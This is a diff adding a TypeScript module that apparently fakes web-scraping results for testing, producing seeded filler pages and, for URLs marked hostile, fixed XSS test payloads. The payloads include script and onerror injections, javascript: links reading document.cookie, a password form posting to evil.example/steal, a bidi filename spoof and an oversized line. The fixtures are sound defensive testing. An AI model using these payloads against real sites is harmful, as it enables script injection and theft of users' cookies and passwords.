@@ -1,0 +1,108 @@
+import "server-only";
+import { createRng, hashSeed, hashUnit } from "./rng";
+
+export type PageContent = { markdown: string | null; html: string | null; links: string[] | null };
+
+const WORDS = (
+  "scraper platform result content article product price review shipping catalogue search " +
+  "update release customer support account order invoice service status region market report " +
+  "analysis summary detail feature guide question answer page section table figure note"
+).split(" ");
+
+const escapeHtml = (s: string) =>
+  s.replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/>/g, "&gt;").replace(/"/g, "&quot;").replace(/'/g, "&#39;");
+
+/** Every URL containing "hostile" is hostile, plus a stable per-URL share of the others. */
+export const isHostile = (seed: number, url: string, share: number): boolean =>
+  url.toLowerCase().includes("hostile") || hashUnit(seed, "hostile:" + url) < share;
+
+function titleOf(url: string): string {
+  try {
+    const u = new URL(url);
+    const last = u.pathname.split("/").filter(Boolean).pop();
+    return last ? decodeURIComponent(last).replace(/[-_]+/g, " ") : u.hostname;
+  } catch {
+    return url;
+  }
+}
+
+/** Links a page "contains": same-origin children, stable per URL. */
+export function linksOf(seed: number, url: string, count: number): string[] {
+  const rng = createRng(hashSeed(seed, "links:" + url));
+  let base: URL;
+  try {
+    base = new URL(url);
+  } catch {
+    return [];
+  }
+  const path = base.pathname.replace(/\/+$/, "");
+  return Array.from({ length: count }, () => `${base.origin}${path}/${rng.pick(WORDS)}-${rng.int(1, 999)}`);
+}
+
+function plain(seed: number, url: string): { title: string; paragraphs: string[] } {
+  const rng = createRng(hashSeed(seed, "content:" + url));
+  const paragraphs = Array.from({ length: rng.int(2, 4) }, () => {
+    const words = Array.from({ length: rng.int(12, 30) }, () => rng.pick(WORDS));
+    const text = words.join(" ");
+    return text[0].toUpperCase() + text.slice(1) + ".";
+  });
+  return { title: titleOf(url), paragraphs };
+}
+
+// Everything a careless renderer turns into script execution, layout breakage or a spoofed view.
+const LONG_LINE = "A".repeat(20_000);
+const hostileHtml = (title: string) =>
+  [
+    `<h1>${title}</h1>`,
+    `<script>alert(1)</script>`,
+    `<img src=x onerror=alert(1)>`,
+    `<a href="javascript:alert(document.cookie)">click me</a>`,
+    `<svg onload=alert(1)><circle r="1"/></svg>`,
+    `<iframe src="javascript:alert(1)"></iframe>`,
+    `<div style="background:url(javascript:alert(1))" onmouseover="alert(1)">hover</div>`,
+    `<form action="https://evil.example/steal"><input name="password"></form>`,
+    `"><script>alert('attribute breakout')</script>`,
+    `<p>\u202Etxt.exe (bidi override)</p>`,
+    `<p>${LONG_LINE}</p>`,
+  ].join("\n");
+
+const hostileMarkdown = (title: string) =>
+  [
+    `# ${title} <script>alert(1)</script>`,
+    `[click me](javascript:alert(document.cookie))`,
+    `![pixel](https://evil.example/x.png" onerror="alert(1))`,
+    `<img src=x onerror=alert(1)>`,
+    `<iframe src="javascript:alert(1)"></iframe>`,
+    `\u202Etxt.exe (bidi override)`,
+    LONG_LINE,
+  ].join("\n\n");
+
+export function pageContent(opts: {
+  seed: number;
+  url: string;
+  formats: readonly string[];
+  extractLinks: boolean;
+  hostileShare: number;
+}): PageContent {
+  const { seed, url, formats } = opts;
+  const hostile = isHostile(seed, url, opts.hostileShare);
+  const { title, paragraphs } = plain(seed, url);
+  const links = linksOf(seed, url, 3);
+  const markdown = hostile
+    ? hostileMarkdown(title)
+    : [`# ${title}`, ...paragraphs, links.map((l) => `- [${titleOf(l)}](${l})`).join("\n")].join("\n\n");
+  const html = hostile
+    ? hostileHtml(title)
+    : [
+        `<html><head><title>${escapeHtml(title)}</title></head><body>`,
+        `<h1>${escapeHtml(title)}</h1>`,
+        ...paragraphs.map((p) => `<p>${escapeHtml(p)}</p>`),
+        `<ul>${links.map((l) => `<li><a href="${escapeHtml(l)}">${escapeHtml(titleOf(l))}</a></li>`).join("")}</ul>`,
+        `</body></html>`,
+      ].join("\n");
+  return {
+    markdown: formats.includes("markdown") ? markdown : null,
+    html: formats.includes("html") ? html : null,
+    links: opts.extractLinks ? links : null,
+  };
+}
